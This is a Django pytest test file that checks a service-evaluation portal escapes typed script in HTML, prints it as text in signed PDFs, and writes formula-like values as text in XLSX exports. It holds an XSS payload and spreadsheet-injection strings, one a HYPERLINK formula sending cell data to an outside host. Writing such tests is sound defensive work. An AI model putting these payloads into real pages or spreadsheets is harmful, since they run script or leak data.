"""Script typed into the evaluation never runs or leaks: the findings and follow-up are kept as typed, shown escaped
on the page and printed as text in the signed PDF; what the figures carry from other hands (the guarantee's
decision, an officer's name) is escaped on the page, printed as text, and written to the XLSX as text, never as a
formula.

Fields: the findings, the follow-up and the hidden version; the page's period; the rule's words and note (the
agency's Admin, in the admin); and, through the figures, the compensation decided on a missed standard."""

import re
import zipfile
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook
from pypdf import PdfReader

from portal.downloads.models import GeneratedFile
from portal.evaluation.models import Evaluation, EvaluationRule
from portal.guarantee.models import MissedStandard, Promise
from portal.roles import Role
from portal.workflow import DONE
from tests.downloads.flow import ask, content, fetch
from tests.evaluation.conftest import wib

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
QUERY = {"layanan": "tiket-dinas", "periode": "2026-Q3"}
INDEX = reverse("evaluation:index")
# Text a spreadsheet program would read as a formula (OWASP "CSV injection"), each start portal.exports guards.
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://x.example/?"&A1,"klik")']


def assert_escaped(page, typed=SCRIPT):
    """What was typed shows on the page as text, and no tag of it is left for the browser."""
    assert escape(typed) in page
    assert "<script>alert" not in page and "<img src=x" not in page


def squash(text):
    return re.sub(r"\s+", "", text)


def assert_printed_as_text(pdf, typed=SCRIPT):
    """The PDF prints the markup as the characters typed: WeasyPrint laid it out as text, not as a tag."""
    assert pdf.startswith(b"%PDF")
    text = "".join(page.extract_text() for page in PdfReader(BytesIO(pdf)).pages)
    assert squash(typed) in squash(text)


def post(client, user, url, version, **data):
    client.force_login(user)
    return client.post(url, {**QUERY, "version": version, **data}, follow=True)


def rows():
    return list(Evaluation.objects.order_by("pk").values())


def get(client, user, name, **query):
    client.force_login(user)
    response = client.get(reverse(name), {**QUERY, **query})
    assert response.status_code == 200
    return response


def figures_pdf(client, user, **query):
    """The figures' PDF as the page asks for it (portal.downloads), made and downloaded."""
    client.force_login(user)
    response = fetch(client, "evaluation.figures", {**QUERY, "per_petugas": "", **query})
    assert response.status_code == 200
    return content(response)


def xlsx_cells(content):
    """{value: cell} of every cell of the XLSX, and the sheets' XML (where a formula would be an <f> element)."""
    sheet = load_workbook(BytesIO(content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    with zipfile.ZipFile(BytesIO(content)) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))
    return cells, xml


@pytest.fixture
def records(make_ticket):
    make_ticket(wib(2026, 8, 3, 9), wib(2026, 8, 3, 12), due=wib(2026, 8, 5, 14, 45))


@pytest.mark.parametrize("field", ["findings", "follow_up"])
def test_script_in_the_evaluation_is_kept_as_typed_shown_escaped_and_printed_as_text(
    client, records, service, rule, superior, field,
):
    texts = {"findings": "Temuan", "follow_up": "Tindak lanjut", field: SCRIPT}
    post(client, superior, reverse("evaluation:save"), 0, **texts)
    assert getattr(Evaluation.objects.get(), field) == SCRIPT
    assert_escaped(get(client, superior, "evaluation:index").content.decode())  # in the draft's form
    page = post(client, superior, reverse("evaluation:sign"), 1, **texts).content.decode()
    signed = Evaluation.objects.get()
    assert signed.is_signed and getattr(signed, field) == SCRIPT
    assert_escaped(page)  # among the signed ones
    response = client.get(reverse("evaluation:signed_pdf", args=[signed.pk]))
    assert response.status_code == 200
    assert_printed_as_text(b"".join(response.streaming_content))


@pytest.mark.parametrize("data, typed", [
    ({"version": SCRIPT, "findings": SCRIPT}, SCRIPT),
    ({"version": 0, "findings": SCRIPT * 200}, SCRIPT * 200),  # over the 8000 characters
])
@pytest.mark.parametrize("url", [reverse("evaluation:save"), reverse("evaluation:sign")])
def test_script_in_a_refused_evaluation_comes_back_escaped_and_saves_nothing(
    client, service, rule, superior, url, data, typed,
):
    client.force_login(superior)
    response = client.post(url, {**QUERY, "follow_up": "Tindak lanjut", **data})
    assert response.status_code == 400 and rows() == []
    assert_escaped(response.content.decode(), typed)


def test_script_saved_meanwhile_and_script_refused_are_both_shown_escaped(
    client, service, rule, superior, make_user, agency,
):
    other_head = make_user(agency, Role.AGENCY_HEAD)
    post(client, other_head, reverse("evaluation:save"), 0, findings=SCRIPT, follow_up="Disimpan lebih dulu")
    before = rows()
    mine = SCRIPT.replace("alert", "confirm")
    client.force_login(superior)
    response = client.post(reverse("evaluation:save"), {**QUERY, "version": 0, "findings": mine, "follow_up": "x"})
    assert response.status_code == 400 and rows() == before
    page = response.content.decode()
    assert_escaped(page)  # the text saved meanwhile
    assert escape(mine) in page and "<script>confirm" not in page  # the text as typed


def test_script_in_the_pages_period_is_escaped_and_no_file_is_made(client, service, rule, superior):
    response = get(client, superior, "evaluation:index", periode=SCRIPT)
    assert "tidak dikenali" in response.content.decode()
    assert_escaped(response.content.decode(), SCRIPT[:20])  # the message repeats its first 20 characters
    assert client.get(reverse("evaluation:xlsx"), {**QUERY, "periode": SCRIPT}).status_code == 404
    assert ask(client, "evaluation.figures", {**QUERY, "periode": SCRIPT}).status_code == 404
    assert not GeneratedFile.objects.exists()


def test_script_in_the_rules_words_and_note_is_shown_escaped(client, portal_admin_client, service, superior):
    response = portal_admin_client.post(reverse("admin:evaluation_evaluationrule_add"), {
        "service": service.pk, "period": "triwulan", "signer": "atasan_langsung", "words": SCRIPT, "note": SCRIPT,
    })
    assert response.status_code == 302
    assert EvaluationRule.objects.filter(words=SCRIPT, note=SCRIPT).exists()
    page = get(client, superior, "evaluation:index").content.decode()
    assert page.count(escape(SCRIPT)) == 2
    assert_escaped(page)


@pytest.fixture
def missed(client, service, make_ticket, worker, kabid):
    """missed(compensation): a ticket of the quarter past its standard, its reason and the compensation given,
    written through the guarantee's pages."""
    Promise.objects.create(service=service, compensation=True)

    def decide(compensation):
        record = make_ticket(wib(2026, 8, 12, 9), wib(2026, 8, 18, 9), due=wib(2026, 8, 14, 10))
        client.force_login(worker)
        client.post(reverse("guarantee:reason", args=["testapp", record.pk]), {"alasan-reason": "Server mati"})
        client.force_login(kabid)
        client.post(reverse("guarantee:decision", args=["testapp", record.pk]), {
            "kompensasi-decision": "diberikan", "kompensasi-compensation": compensation,
            "kompensasi-given_on": "20/08/2026", "kompensasi-given_to": "penerima",
        })
        entry = MissedStandard.objects.get(object_id=record.pk)
        assert entry.compensation == compensation
        return entry.decision_words()

    return decide


def test_a_script_compensation_in_the_figures_is_escaped_printed_as_text_and_written_as_text(
    client, rule, superior, missed,
):
    decision = missed(SCRIPT)
    assert decision.startswith(SCRIPT)
    assert_escaped(get(client, superior, "evaluation:index").content.decode())
    assert_printed_as_text(figures_pdf(client, superior))
    cells, _xml = xlsx_cells(get(client, superior, "evaluation:xlsx").content)
    assert cells[decision].data_type == "s"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_compensation_that_reads_as_a_formula_is_written_to_the_xlsx_as_text(client, rule, superior, missed, formula):
    decision = missed(formula)
    assert decision.startswith(formula)
    cells, xml = xlsx_cells(get(client, superior, "evaluation:xlsx").content)
    cell = cells[decision]
    assert cell.data_type == "s" and cell.quotePrefix
    assert "<f>" not in xml and "<f " not in xml


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_officer_named_like_a_formula_is_written_to_the_xlsx_as_text(
    client, records, service, rule, superior, division, make_user, make_ticket, log, formula,
):
    # A name is typed in the user admin, outside the evaluation: seeded here as it would be stored.
    officer = make_user(division, Role.OFFICER)
    officer.first_name, officer.last_name = formula, SCRIPT
    officer.save()
    ticket = make_ticket(wib(2026, 8, 3, 9), wib(2026, 8, 3, 12), due=wib(2026, 8, 5, 14, 45))
    log(ticket, [("", "received", wib(2026, 8, 3, 9), officer), ("received", DONE, wib(2026, 8, 3, 12), officer)])
    assert_escaped(get(client, superior, "evaluation:index", per_petugas="1").content.decode())
    assert_printed_as_text(figures_pdf(client, superior, per_petugas="1"))
    cells, xml = xlsx_cells(get(client, superior, "evaluation:xlsx", per_petugas="1").content)
    [name] = [value for value in cells if isinstance(value, str) and value.startswith(formula)]
    assert cells[name].data_type == "s" and cells[name].quotePrefix
    assert "<f>" not in xml and "<f " not in xml
